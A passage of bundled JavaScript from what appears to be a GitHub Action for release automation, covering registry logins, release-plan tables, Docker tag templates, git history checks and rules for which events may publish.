        ...settings.moreImages.flatMap(i => [{ name: i.image, registry: i.registry }, ...i.mirrors])
    ];
    for (const { registry } of names) {
        if (logins.some(l => l.registry === registry))
            continue;
        logins.push(settings.registryLogins.find(l => l.registry === registry) ?? { registry, username: '', password: '' });
    }
    return logins;
}
/** The logins that can log in: both a user and a password given (a fork's run has neither). */
function completeLogins(settings) {
    return imageLogins(settings).filter(l => l.username && l.password);
}
/** The credentials given for `host` (an image's registry), where both a user and a password were. */
function credentialsFor(settings, host) {
    return completeLogins(settings).find(l => l.registry === host);
}
/** The credentials for the registry an image name (`host/path`, or Docker Hub's `path`) lives in. */
function imageCredentialsFor(settings, image) {
    return credentialsFor(settings, (0,_image_names_js__WEBPACK_IMPORTED_MODULE_1__/* .splitRegistry */ .K0)(image).registry);
}


/***/ }),

/***/ 40967:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ge: () => (/* binding */ rows),
/* harmony export */   Hn: () => (/* binding */ cell),
/* harmony export */   Pt: () => (/* binding */ planText),
/* harmony export */   Xg: () => (/* binding */ planMarkdown),
/* harmony export */   ZD: () => (/* binding */ escapeHtml),
/* harmony export */   hy: () => (/* binding */ failedMarkdown),
/* harmony export */   p0: () => (/* binding */ verifyCommand)
/* harmony export */ });
/* unused harmony export summaryAsText */
/* harmony import */ var _plan_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(48720);
/* harmony import */ var _versions_words_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(13880);
// The plan, as a person reads it: a Markdown table for the job summary and
// aligned text for the log.


const TYPE_LABEL = {
    release: 'Release',
    dev: 'Development release',
    verify: 'Pull request check',
    cleanup: 'Cleanup of a deleted branch',
    skip: 'Nothing to release'
};
function rows(plan) {
    const rows = [
        ['Release type', `${TYPE_LABEL[plan.type]} (${plan.type})`],
        ['Reason', plan.reason],
        ['Ref', plan.ref],
        ['Commit', plan.sha]
    ];
    if (plan.type === 'skip')
        return rows;
    rows.push(['Version', plan.version]);
    if (plan.distVersion)
        rows.push(['Version in the files', `${plan.distVersion} (normalize = false: the build backend normalizes)`]);
    if (plan.versionSource)
        rows.push(['Version from', plan.versionSource]);
    if (plan.indexPreview)
        rows.push(['Index', plan.indexPreview]);
    // No image is built (publish-docker: false): no Docker rows. A cleanup shows the tags it would remove.
    if (plan.type !== 'cleanup' && !plan.steps.some(s => s.id === 'docker' && !s.skippedBecause))
        return rows;
    rows.push(['Image', [plan.image, ...plan.mirrors].join('\n')]);
    rows.push(['Docker tags', (0,_plan_js__WEBPACK_IMPORTED_MODULE_0__/* .allRefs */ .w)(plan).join('\n') || '(none)']);
    if (plan.owners.length)
        rows.push(['Tag owners', plan.owners.map(o => `${o.tag}: ${o.what}`).join('\n')]);
    if (plan.latestReason)
        rows.push(['latest', plan.latestReason]);
    rows.push(['Platforms', plan.platforms.join(', ')]);
    if (plan.type !== 'cleanup')
        rows.push(['Dockerfile', plan.dockerfile]);
    if (plan.imagePush)
        rows.push(['Image push', plan.imagePush]);
    return rows;
}
function stepLines(plan) {
    return plan.steps.map((s, i) => `${i + 1}. ${s.title}${s.skippedBecause ? ` (skipped: ${s.skippedBecause})` : ''}`);
}
// Branch and tag names are user data: escape them, so that they show as text.
function escapeHtml(text) {
    return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/\|/g, '&#124;');
}
function cell(text, literal) {
    const lines = escapeHtml(text).split('\n');
    return (literal ? lines.map(line => `<code>${line}</code>`) : lines).join('<br>');
}
function planMarkdown(plan, heading) {
    const literal = new Set(['Ref', 'Commit', 'Version', 'Image', 'Docker tags']);
    const lines = [`## ${heading}`, '', '| | |', '|---|---|'];
    for (const [key, value] of rows(plan))
        lines.push(`| **${key}** | ${cell(value, literal.has(key))} |`);
    if (plan.steps.length)
        lines.push('', '**Steps**', '', ...stepLines(plan).map(escapeHtml));
    const notes = [
        ...plan.warnings.map(w => `> [!WARNING]\n> ${escapeHtml(w)}`),
        ...plan.notices.map(n => `> [!NOTE]\n> ${escapeHtml(n)}`)
    ];
    if (notes.length)
        lines.push('', ...notes.flatMap(n => [n, '']));
    return lines.join('\n') + '\n';
}
/** Why a run failed, as a summary's first lines: GitHub's caution callout under `heading`. */
function failedMarkdown(heading, message) {
    return `## ${escapeHtml(heading)}\n\n> [!CAUTION]\n> ${escapeHtml(message).replace(/\n/g, '\n> ')}\n`;
}
function planText(plan) {
    const table = rows(plan);
    const width = Math.max(...table.map(([k]) => k.length));
    const lines = [];
    for (const [key, value] of table) {
        const [first, ...more] = value.split('\n');
        lines.push(`${key.padEnd(width)}  ${first}`);
        for (const line of more)
            lines.push(`${' '.repeat(width)}  ${line}`);
    }
    if (plan.steps.length)
        lines.push('Steps', ...stepLines(plan).map(l => `  ${l}`));
    return lines.join('\n');
}
function summaryAsText(markdown) {
    return markdown
        .replace(/<\/?code>/g, '')
        .replace(/<br>/g, ', ')
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&#124;/g, '|')
        .replace(/&amp;/g, '&')
        .replace(/^\|---.*\n/gm, '')
        .replace(/\*\*/g, '');
}
/** The command that reads this push's release back (docs/verify.md): the same ref, image, platforms and index. */
function verifyCommand(plan, indexUrl) {
    const image = [plan.image, ...plan.mirrors].join(',');
    // Every value quoted for a shell: the ref is a branch name, which anyone who can push chooses.
    const q = _versions_words_js__WEBPACK_IMPORTED_MODULE_1__/* .shellQuote */ .ZL;
    return `dev-release verify --ref ${q(plan.ref)} --image ${q(image)} --platforms ${q(plan.platforms.join(','))} --pypi-url ${q(indexUrl)}`;
}


/***/ }),

/***/ 21689:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ep: () => (/* binding */ renderTags),
/* harmony export */   HU: () => (/* binding */ parseTagTemplates),
/* harmony export */   a2: () => (/* binding */ reservedBy),
/* harmony export */   m1: () => (/* binding */ templateOwner)
/* harmony export */ });
/* harmony import */ var _docker_tags_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(41133);
/* harmony import */ var _versions_pep440_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(42422);
// Extra image tags from the `tags` input: one template per line, each for the
// release types it names. `{{major}}.{{minor}}` on releases is an alias that
// moves only when this release is the highest of its line; dev tags can never
// pass for a release tag. Every tag has one owner, and a branch's own tag never
// takes one that a template can give (reservedBy).


/** The placeholders each kind of release fills; any other is refused when the inputs are read. */
const FILLED = {
    release: ['version', 'tag', 'major', 'minor', 'patch', 'sha', 'sha7'],
    dev: ['version', 'tag', 'branch', 'sha', 'sha7']
};
const PLACEHOLDERS = ['version', 'major', 'minor', 'patch', 'branch', 'sha7', 'sha', 'tag'];
const PLACEHOLDER = /\{\{\s*(\w+)\s*\}\}/g;
const VALID_TAG = /^[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}$/;
const placeholdersOf = (text) => [...text.matchAll(PLACEHOLDER)].map(p => p[1]);
/** `{{major}}.{{minor}}`, `sha-{{sha7}} on dev`, `edge on branch develop`; what is wrong with each line otherwise. */
function parseTagTemplates(lines) {
    const templates = [];
    const problems = [];
    for (const line of lines) {
        const m = /^(\S+)(?:\s+on\s+(release|dev|branch\s+(\S+)))?$/.exec(line.trim());
        if (!m) {
            problems.push(`Input "tags": "${line}" is not "<template> [on release|dev|branch <name>]".`);
            continue;
        }
        const text = m[1];
        const used = placeholdersOf(text);
        const unknown = used.filter(p => !PLACEHOLDERS.includes(p));
        if (unknown.length) {
            problems.push(`Input "tags": "${line}" uses {{${unknown.join('}}, {{')}}}; the placeholders are ${PLACEHOLDERS.map(p => `{{${p}}}`).join(', ')}.`);
            continue;
        }
        const literal = text.replace(PLACEHOLDER, '');
        if (/[^A-Za-z0-9_.-]/.test(literal)) {
            problems.push(`Input "tags": "${line}" has characters no Docker tag may hold; outside the placeholders use only letters, digits, "_", "." and "-".`);
            continue;
        }
        // Without "on": a template naming the version is a release's, any other a dev release's.
        const namesVersion = used.some(p => ['version', 'major', 'minor', 'patch'].includes(p));
        const on = m[3]
            ? { kind: 'branch', name: m[3] }
            : m[2] === 'dev'
                ? { kind: 'dev' }
                : m[2] === 'release' || namesVersion
                    ? { kind: 'release' }
                    : { kind: 'dev' };
        const kind = on.kind === 'release' ? 'release' : 'dev';
        const unfilled = [...new Set(used.filter(p => !FILLED[kind].includes(p)))];
        if (unfilled.length) {
            const why = kind === 'release'
                ? 'a release does not have (a release is a tag push, with no branch); use it "on dev" or "on branch <name>"'
                : 'only a release has; make it "on release"';
            problems.push(`Input "tags": "${line}" uses {{${unfilled.join('}}, {{')}}}, which ${why}.`);
            continue;
        }
        templates.push({ text, on });
    }
    return { templates, problems };
}
/** Whose tags a template gives: the highest release's (alias), a channel's, one commit's, or the branch's own. */
function templateOwner(template) {
    const used = placeholdersOf(template.text);
    if (used.some(p => p === 'sha' || p === 'sha7'))
        return 'traceable';
    if (template.on.kind === 'release')
        return 'alias';
    if (used.some(p => p === 'version'))
        return 'traceable';
    if (used.length)
        return 'branch'; // {{branch}}, {{tag}}: the branch's own, and gone with it
    return 'channel';
}
function ownerWords(template, owner, branch) {
    const on = template.on.kind === 'branch' ? ` on branch ${template.on.name}` : ` on ${template.on.kind}`;
    if (owner === 'branch')
        return `branch ${branch} ("${template.text}")`;
    if (owner === 'alias')
        return `alias "${template.text}" of the highest release of its line`;
    return `${owner} "${template.text}"${on}`;
}
/** What each placeholder can render to, for telling which tags a template could ever give. */
function placeholderPattern(name, kind) {
    if (name === 'sha7')
        return '[0-9a-f]{7}';
    if (name === 'sha')
        return '[0-9a-f]{40}';
    if (name === 'major' || name === 'minor' || name === 'patch')
        return '\\d+';
    if (name === 'version' || (name === 'tag' && kind === 'release'))
        return '\\d[0-9A-Za-z._-]*';
    return '.+'; // branch, and tag on dev: a branch's tag
}
/**
 * Whether a tag is one the templates could give to an owner other than the branch that has that very tag: a
 * channel (`nightly`), an alias (`stable`, `v{{major}}`), a traceable tag (`sha-{{sha7}}`), or another branch's
 * template tag (`{{branch}}-debug` gives `x-debug` to branch x). A template that is only `{{branch}}` gives the
 * branch's own tag and reserves nothing.
 */
function reservedBy(templates) {
    const patterns = templates.flatMap(t => {
        const kind = t.on.kind === 'release' ? 'release' : 'dev';
        const parts = t.text.split(PLACEHOLDER);
        // split() with a capture group alternates literal text and placeholder names.
        const literal = parts.filter((_, i) => i % 2 === 0).join('');
        if (!literal && kind === 'dev' && placeholdersOf(t.text).every(p => p === 'branch' || p === 'tag'))
            return [];
        const source = parts
            .map((part, i) => (i % 2 === 0 ? part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&') : placeholderPattern(part, kind)))
            .join('');
        return [new RegExp(`^${source}$`)];
    });
    return tag => patterns.some(p => p.test(tag));
}
function fill(text, values) {
    return text.replace(PLACEHOLDER, (_, name) => values[name] ?? '');
}
function releaseValues(version, sha) {
    const release = (0,_versions_pep440_js__WEBPACK_IMPORTED_MODULE_1__/* .parseVersion */ .ot)(version)?.release ?? [];
    return {
        version,
        tag: version,
        major: String(release[0] ?? 0n),
        minor: String(release[1] ?? 0n),
        patch: String(release[2] ?? 0n),
        sha,
        sha7: sha.slice(0, 7)
    };
}
/** Why a rendered tag cannot be pushed, or undefined when it can. */
function unusable(tag) {
    if (!tag)
        return 'nothing';
    if (/[-.]$/.test(tag))
        return `"${tag}", which ends in "${tag.slice(-1)}"`;
    if (!VALID_TAG.test(tag))
        return `"${tag}", which is no valid tag`;
    return undefined;
}
function applies(template, ctx) {
    if (ctx.type === 'release')
        return template.on.kind === 'release';
    return template.on.kind === 'dev' || (template.on.kind === 'branch' && template.on.name === ctx.branch);
}
/** The extra tags this release gets from the templates, each with its owner. */
function renderTags(templates, ctx) {
    const tags = [];
    const notes = [];
    for (const template of templates.filter(t => applies(t, ctx))) {
        const owner = templateOwner(template);
        let tag;
        if (ctx.type === 'release') {
            if (owner === 'alias' && !(0,_versions_pep440_js__WEBPACK_IMPORTED_MODULE_1__/* .isFinal */ .dR)(ctx.version)) {
                notes.push(`"${template.text}" not set: ${ctx.version} is not a final release.`);
                continue;
            }
            tag = fill(template.text, releaseValues(ctx.version, ctx.sha));
            // An alias belongs to the highest final release that renders to it: a backport moves its own line only.
            const higher = owner === 'alias'
                ? ctx.releasedVersions.filter(v => (0,_versions_pep440_js__WEBPACK_IMPORTED_MODULE_1__/* .isFinal */ .dR)(v) &&
                    (0,_versions_pep440_js__WEBPACK_IMPORTED_MODULE_1__/* .compareVersions */ .Zy)(v, ctx.version) > 0 &&
                    fill(template.text, releaseValues(v, ctx.sha)) === tag)
                : [];
            if (higher.length) {
                notes.push(`${tag} not moved: ${higher.sort(_versions_pep440_js__WEBPACK_IMPORTED_MODULE_1__/* .compareVersions */ .Zy).pop()} is a higher release of that line.`);
                continue;
            }
        }
        else {
            const branch = ctx.branchTag ?? '';
            tag = fill(template.text, { version: ctx.version, branch, tag: branch, sha7: ctx.sha.slice(0, 7), sha: ctx.sha });
            // Made a tag as a branch name is (a long branch is cut, with a hash), and never one that passes for a
            // release's (`{{version}} on dev`, `latest on dev`): that gets the branch prefix.
            if (tag && !/[-.]$/.test(tag))
                tag = (0,_docker_tags_js__WEBPACK_IMPORTED_MODULE_0__/* .sanitizeTag */ .iP)((0,_docker_tags_js__WEBPACK_IMPORTED_MODULE_0__/* .passesForRelease */ .Wq)(tag) ? _docker_tags_js__WEBPACK_IMPORTED_MODULE_0__/* .BRANCH_PREFIX */ .sM + tag : tag);
        }
        const problem = unusable(tag);
        if (problem) {
            notes.push(`"${template.text}" gives ${problem}: not pushed.`);
            continue;
        }
        if (!tags.some(t => t.tag === tag))
            tags.push({ tag, owner, what: ownerWords(template, owner, ctx.branch) });
    }
    return { tags, notes };
}


/***/ }),

/***/ 22637:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

// ESM COMPAT FLAG
__webpack_require__.r(__webpack_exports__);

// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  mainStep: () => (/* binding */ mainStep),
  runnerContext: () => (/* binding */ runnerContext)
});

// EXTERNAL MODULE: ./src/outside/runner.ts
var runner = __webpack_require__(45081);
// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
;// CONCATENATED MODULE: ./src/outside/event.ts
// The triggering event, reduced to what the planner needs, read the way the
// runner hands it over: GITHUB_* variables and the event payload file. (Read by
// hand rather than through @actions/github, whose octokit the plan never needs.)

/** The event from the runner's variables (`env`) and the payload file they name. */
function eventFromEnvironment(env) {
    let payload = {};
    if (env.GITHUB_EVENT_PATH) {
        try {
            payload = JSON.parse((0,external_node_fs_.readFileSync)(env.GITHUB_EVENT_PATH, 'utf8'));
        }
        catch {
            // No payload (a local run): the variables alone say enough.
        }
    }
    const repository = env.GITHUB_REPOSITORY ?? '';
    return {
        name: env.GITHUB_EVENT_NAME ?? '',
        ref: env.GITHUB_REF ?? '',
        sha: env.GITHUB_SHA ?? '',
        repository,
        ...(env.GITHUB_REPOSITORY_ID ? { repositoryId: env.GITHUB_REPOSITORY_ID } : {}),
        ...(env.GITHUB_ACTOR ? { actor: env.GITHUB_ACTOR } : {}),
        fork: payload.repository?.fork === true,
        deleted: payload.deleted === true,
        repositoryUrl: payload.repository?.html_url ?? `${env.GITHUB_SERVER_URL ?? 'https://github.com'}/${repository}`,
        headRef: env.GITHUB_HEAD_REF ?? '',
        headRepository: payload.pull_request?.head?.repo?.full_name,
        deletedBranch: env.GITHUB_EVENT_NAME === 'delete' && payload.ref_type === 'branch' ? payload.ref : undefined,
        action: payload.action,
        ...(payload.workflow_run
            ? {
                run: {
                    event: payload.workflow_run.event ?? '',
                    headRepository: payload.workflow_run.head_repository?.full_name
                }
            }
            : {})
    };
}

// EXTERNAL MODULE: ./src/outside/exec.ts
var exec = __webpack_require__(56002);
// EXTERNAL MODULE: ./src/outside/leftovers.ts
var leftovers = __webpack_require__(25335);
// EXTERNAL MODULE: ./src/outside/stage.ts
var stage = __webpack_require__(21033);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
;// CONCATENATED MODULE: ./src/shell/full-history.ts
class HistoryError extends Error {
    constructor(message) {
        super(message);
        this.name = 'HistoryError';
    }
}
/**
 * A version computed from a shallow clone is wrong, so fetch everything first.
 * `log` tells the user what is happening.
 */
async function ensureFullHistory(git, log) {
    const state = await git.shallowness();
    if (state === 'not-a-repository') {
        throw new HistoryError(`${git.cwd} is not a git repository. Check out the repository first (actions/checkout with fetch-depth: 0).`);
    }
    if (state === 'full')
        return;
    log('The repository is a shallow clone: fetching its full history and tags from origin.');
    try {
        await git.unshallow();
    }
    catch (error) {
        throw new HistoryError(`The repository is a shallow clone and fetching its history failed (${error.message.split('\n')[0]}). ` +
            'Versions need the full history and tags: set fetch-depth: 0 on actions/checkout.');
    }
    if ((await git.shallowness()) === 'shallow') {
        throw new HistoryError('The repository is still shallow after fetching. Set fetch-depth: 0 on actions/checkout.');
    }
}

// EXTERNAL MODULE: ./src/outside/project-files.ts
var project_files = __webpack_require__(89856);
// EXTERNAL MODULE: ./src/versions/tag-rules.ts
var tag_rules = __webpack_require__(27215);
;// CONCATENATED MODULE: ./src/shell/facts.ts
// Reads from git (and the work tree) the facts the planner needs; reads only (full-history.ts fetches first).





/**
 * The normalized versions of this package's version tags, in the whole repository: the tags its own rules admit
 * (tag_regex, tag-prefix, and the git_describe_command's --match and --exclude), so that another package's higher
 * release in a monorepo never holds back `latest`, a channel or a backport.
 */
async function tagVersions(git, rules) {
    return (await git.tags())
        .filter(t => (0,tag_rules/* describeAdmits */.Ei)(rules.describe, t))
        .map(t => (0,tag_rules/* versionFromTag */.bp)(t, rules))
        .filter((v) => v !== undefined);
}
async function readFacts(git, trigger, sha, options) {
    const missing = () => new HistoryError(`Commit ${sha} is not in the repository at ${git.cwd}. Check out the commit the workflow runs for.`);
    const { rules } = options;
    const facts = {
        passedOver: [],
        commitCount: 0,
        tagVersions: [],
        hasPythonProject: (0,project_files/* findProject */.t1)((0,external_node_path_.join)(git.cwd, options.pythonProject)) !== undefined,
        today: buildDate(process.env.SOURCE_DATE_EPOCH)
    };
    // The commit's time is read here only where the plan needs it (a release, calver-by-date); git describe
    // checks the commit itself, and publishing reads the time when it builds.
    let commit = sha;
    if (trigger.type === 'release' || options.needsCommitTime) {
        const found = await git.commit(sha);
        if (!found)
            throw missing();
        facts.commitEpoch = found.epoch;
        facts.commitDate = found.date;
        commit = found.sha;
    }
    if (trigger.type === 'release') {
        facts.tagVersions = await tagVersions(git, rules);
        // Another version tag on the same commit: git describe (so setuptools_scm) may pick that one there.
        const here = await git.tagsAt(commit);
        const versions = here.filter(t => (0,tag_rules/* tagVersion */.RQ)(t, rules) !== undefined && (0,tag_rules/* describeAdmits */.Ei)(rules.describe, t));
        if (versions.some(t => t !== trigger.tag)) {
            const others = here.filter(t => !versions.includes(t));
            const picked = await git.describe(commit, rules.describe, others);
            if (picked && picked.distance === 0 && picked.tag !== trigger.tag)
                facts.describedHere = picked.tag;
        }
    }
    if (trigger.type === 'dev' || trigger.type === 'verify') {
        // git describe picks the nearest tag; where that one is no version of this
        // package (setuptools_scm would crash), leave it out and ask again.
        for (;;) {
            const described = await git.describe(commit, rules.describe, facts.passedOver).catch(error => {
                throw /not a valid object name|not a valid commit/i.test(error.message) ? missing() : error;
            });
            if (!described)
                break;
            const tag = described.tag.replace(/^(debian|upstream)\//, '');
            const version = (0,tag_rules/* tagVersion */.RQ)(tag, rules);
            if (version !== undefined) {
                facts.nearest = { tag: described.tag, version, distance: described.distance };
                break;
            }
            facts.passedOver.push(described.tag);
        }
        if (!facts.nearest)
            facts.commitCount = await git.countCommits(commit);
        if (options.ownDescribe) {
            const own = await git.describe(commit, options.ownDescribe);
            if (own && own.tag !== facts.nearest?.tag)
                facts.ownNearest = own.tag;
        }
    }
    return facts;
}
/** setuptools_scm's "now": SOURCE_DATE_EPOCH when set, else the clock; a UTC date. */
function buildDate(epoch) {
    const seconds = epoch && /^\d+$/.test(epoch) ? Number(epoch) : Date.now() / 1000;
    return new Date(seconds * 1000).toISOString().slice(0, 10);
}
/**
 * The branches the repository has now, for a cleanup: through GitHub's API with the token the action has (no
 * checkout needed, and a checkout with persist-credentials: false is no obstacle), else `git ls-remote --heads origin`.
 */
async function liveBranches(repository, token, git, timeoutMs) {
    if (!token) {
        return git
            .remoteBranches()
            .then(names => ({ names }))
            .catch((error) => ({ error: `git ls-remote --heads origin: ${gitReason(error.message)}` }));
    }
    const { branchNames, github, githubStatus } = await Promise.all(/* import() */[__webpack_require__.e(392), __webpack_require__.e(716)]).then(__webpack_require__.bind(__webpack_require__, 85716));
    try {
        return { names: await branchNames(github(token, timeoutMs), repository) };
    }
    catch (error) {
        const why = githubStatus(error) === 404
            ? `GitHub answers 404 for the branches of ${repository}: the github-token cannot see the repository (the job needs contents: read)`
            : `GitHub's list of the branches of ${repository}: ${lastLine(error.message)}`;
        return { error: why };
    }
}
/** git's own reason (its first fatal: line, as in "'origin' does not appear to be a git repository"), else its last line. */
function gitReason(text) {
    return /^fatal: (.*)$/m.exec(text)?.[1] ?? lastLine(text);
}
function lastLine(text) {
    return (0,exec/* lastLines */.w$)({ stdout: '', stderr: text }, 1);
}

// EXTERNAL MODULE: ./src/outside/git.ts
var outside_git = __webpack_require__(69071);
// EXTERNAL MODULE: ./src/plan/inputs.ts + 2 modules
var plan_inputs = __webpack_require__(91358);
// EXTERNAL MODULE: ./src/plan/step-settings.ts
var step_settings = __webpack_require__(38163);
;// CONCATENATED MODULE: ./src/shell/preflight.ts
// Checks of the inputs against the work tree and the machine, made before
// anything is built, logged in to or uploaded.



function isDir(path) {
    return (0,external_node_fs_.existsSync)(path) && (0,external_node_fs_.statSync)(path).isDirectory();
}
function isFile(path) {
    return (0,external_node_fs_.existsSync)(path) && (0,external_node_fs_.statSync)(path).isFile();
}
function inside(root, path) {
    const rel = (0,external_node_path_.relative)(root, path);
    return rel === '' || (!rel.startsWith('..') && !(0,external_node_path_.isAbsolute)(rel));
}
/** The path with every symbolic link resolved, also where its last parts do not exist yet. */
function realPath(path) {
    const missing = [];
    let existing = path;
    while (!(0,external_node_fs_.existsSync)(existing)) {
        missing.unshift((0,external_node_path_.basename)(existing));
        const parent = (0,external_node_path_.dirname)(existing);
        if (parent === existing)
            break;
        existing = parent;
    }
    return (0,external_node_path_.join)((0,external_node_fs_.realpathSync)(existing), ...missing);
}
/** Where the Dockerfile is looked for when neither dockerfile nor context is given, in this order. */
const DOCKERFILE_PLACES = [
    { context: 'docker', dockerfile: 'docker/Dockerfile', where: 'docker/' },
    { context: '.', dockerfile: 'Dockerfile', where: 'the repository root' }
];
/**
 * The Dockerfile where the project keeps it: given (dockerfile, context, images), or looked for in docker/ and then at
 * the repository root. Found at the root, the context is the root and the package is staged into pkg/. Found nowhere,
 * the release is the package's alone (with a notice), unless an image was asked for: then that is a problem, which
 * names both places and the inputs that set the path.
 */
function locateDockerfile(inputs, workspace) {
    const search = inputs.dockerfileSearch;
    if (!inputs.publishDocker || !search)
        return { inputs };
    const found = DOCKERFILE_PLACES.find(place => isFile((0,external_node_path_.resolve)(workspace, place.dockerfile)));
    if (found) {
        const pkgDirs = search.pkgDirGiven ? inputs.pkgDirs : [found.context === '.' ? 'pkg' : `${found.context}/pkg`];
        const from = `found in ${found.where}${found.context === '.' ? ' (there is no docker/Dockerfile)' : ''}`;
        return {
            inputs: { ...inputs, context: found.context, dockerfile: found.dockerfile, pkgDirs, dockerfileFrom: from }
        };
    }
    const places = DOCKERFILE_PLACES.map(place => place.dockerfile).join(' and ');
    if (search.asked)
        return {
            inputs,
            problem: `An image is asked for (${inputs.image}), but there is no Dockerfile at ${places}; add one, or give its path with the inputs file and context (or images), or set publish-docker: false to release the package alone.`
        };
    return {
        inputs: { ...inputs, publishDocker: false },
        notice: `No Dockerfile at ${places}: releasing the Python package only (give file and context where it is, or image or publish-docker: true to make a missing Dockerfile an error).`
    };
}
/** Every problem with paths and the interpreter, as sentences that name the input and the fix. */
async function preflight(inputs, workspace) {
    const problems = [];
    const at = (path) => (0,external_node_path_.resolve)(workspace, path);
    const projectDir = at(inputs.pythonProject);
    if (!isDir(projectDir)) {
        problems.push(`Input "python-project": directory "${inputs.pythonProject}" does not exist in the workspace; give the directory that holds pyproject.toml or setup.py.`);
    }
    if (inputs.publishDocker) {
        for (const more of inputs.moreImages) {
            if (!isDir(at(more.context)))
                problems.push(`Input "images": context "${more.context}" of ${more.image} does not exist in the workspace.`);
            if (!isFile(at(more.dockerfile)))
                problems.push(`Input "images": dockerfile "${more.dockerfile}" of ${more.image} does not exist in the workspace.`);
        }
        // A Dockerfile that was looked for is there, or locateDockerfile said where it looked.
        if (!inputs.dockerfileSearch && !isDir(at(inputs.context))) {
            problems.push(`Input "context": directory "${inputs.context}" does not exist in the workspace; give the Docker build context (default: docker).`);
        }
        if (!inputs.dockerfileSearch && !isFile(at(inputs.dockerfile))) {
            problems.push(`Input "file": "${inputs.dockerfile}" does not exist in the workspace; give the Dockerfile's path (default: <context>/Dockerfile).`);
        }
        for (const dir of inputs.pkgDirs) {
            if (!inside(workspace, at(dir))) {
                problems.push(`Input "pkg-dir": "${dir}" is outside the workspace; give a directory inside the Docker context, like docker/pkg.`);
            }
            else if (!inside(realPath(workspace), realPath(at(dir)))) {
                // Staging deletes old *.whl and *.tar.gz there: never through a link to somewhere else.
                problems.push(`Input "pkg-dir": "${dir}" leads through a symbolic link to ${realPath(at(dir))}, outside the workspace; give a real directory inside the Docker context.`);
            }
        }
    }
    const buildsPython = (inputs.publishPypi || inputs.publishDocker) && isDir(projectDir) && (0,project_files/* findProject */.t1)(projectDir);
    // Loaded here, not at start-up: the plan path loads no publishing module (ARCHITECTURE.md).
    const { Python } = buildsPython ? await __webpack_require__.e(/* import() */ 374).then(__webpack_require__.bind(__webpack_require__, 92374)) : { Python: undefined };
    if (Python && !(await new Python(inputs.python).exists())) {
        problems.push(`Input "python": the interpreter "${inputs.python}" was not found or does not run; give a Python 3 on the PATH or its full path.`);
    }
    return problems;
}

// EXTERNAL MODULE: ./src/plan/plan.ts
var plan_plan = __webpack_require__(48720);
// EXTERNAL MODULE: ./src/versions/tag-regex.ts
var tag_regex = __webpack_require__(96999);
;// CONCATENATED MODULE: ./src/plan/trigger.ts


const PULL_REQUEST_EVENTS = ['pull_request', 'pull_request_target'];
const REF_EVENTS = ['push', 'workflow_dispatch'];
/** Decide from the event alone whether this is a release, a dev release or nothing. */
function classify(event, skipBranches, tagRules = tag_rules/* defaultRules */.Z4, pullRequests = 'skip', cleanup = false, cleanupOnClose = false) {
    if (event.name === 'pull_request' && event.action === 'closed') {
        const branch = event.headRef ?? '';
        // Only a head proven to be this repository's owns the branch's tags: a deleted fork's head is null.
        if (event.headRepository !== event.repository)
            return {
                type: 'skip',
                reason: event.headRepository
                    ? `The closed pull request came from a fork (${event.headRepository}): its branch "${branch}" is not this repository's, so nothing is removed.`
                    : `The closed pull request's head repository is gone (a deleted fork) or unknown: its branch "${branch}" cannot be proven this repository's, so nothing is removed.`
            };
        if (cleanupOnClose && cleanup && branch)
            return { type: 'cleanup', branch, via: 'close' };
        return {
            type: 'skip',
            reason: `The pull request from "${branch}" was closed; there is nothing to build${cleanupOnClose ? '' : ' (cleanup-on-close is false: its tags go when the branch is deleted)'}.`
        };
    }
    if (event.name === 'delete') {
        if (!event.deletedBranch)
            return { type: 'skip', reason: 'A deleted tag removes nothing: release images stay.' };
        if (!cleanup)
            return {
                type: 'skip',
                reason: `Branch "${event.deletedBranch}" was deleted; cleanup is false, so its image tags stay.`
            };
        return { type: 'cleanup', branch: event.deletedBranch, via: 'delete' };
    }
    if (event.name === 'pull_request' && pullRequests === 'build') {
        // Forks included: nothing is logged in to, pushed or uploaded, so no secret is needed.
        return { type: 'verify', branch: event.headRef || event.ref };
    }
    if (PULL_REQUEST_EVENTS.includes(event.name)) {
        const why = event.name === 'pull_request_target'
            ? "pull_request_target runs with the repository's secrets, so it never builds or publishes a pull request's code"
            : 'pull-requests is skip';
        return { type: 'skip', reason: `Pull requests never publish (${why}); a release needs a push or a manual run.` };
    }
    if (event.name === 'workflow_run' && event.run && PULL_REQUEST_EVENTS.includes(event.run.event)) {
        const fork = event.run.headRepository && event.run.headRepository !== event.repository;
        return {
            type: 'skip',
            reason: `This workflow_run was started by a pull request${fork ? ` from a fork (${event.run.headRepository})` : ''}, and runs with the repository's secrets: it never builds or publishes the pull request's code. Build pull requests with pull-requests: build on the pull_request event, where nothing is published.`
        };
    }
    if (event.fork) {
        return { type: 'skip', reason: `This run is in a fork of the repository; only the repository itself publishes.` };
    }
    if (!REF_EVENTS.includes(event.name)) {
        return { type: 'skip', reason: `Event "${event.name}" does not publish; only push and workflow_dispatch do.` };
    }
    if (event.deleted) {
        return { type: 'skip', reason: `The push deleted ${event.ref}; there is nothing to release.` };
    }
    if (event.ref.startsWith('refs/tags/')) {
        const tag = event.ref.slice('refs/tags/'.length);
        // Only a tag needs the project's tag rules (read from its files).
        const rules = typeof tagRules === 'function' ? tagRules() : tagRules;
        if (rules.prefix && !tag.startsWith(rules.prefix)) {
            return {
                type: 'skip',
                reason: `Tag "${tag}" belongs to another package: this package's tags start with "${rules.prefix}".`
            };
        }
        const version = (0,tag_rules/* tagVersion */.RQ)(tag, rules);
        if (version === undefined) {
            const regex = rules.tagRegex.source === tag_regex/* DEFAULT_TAG_REGEX */.$F ? '' : ` of this package (tag_regex ${rules.tagRegex.source})`;
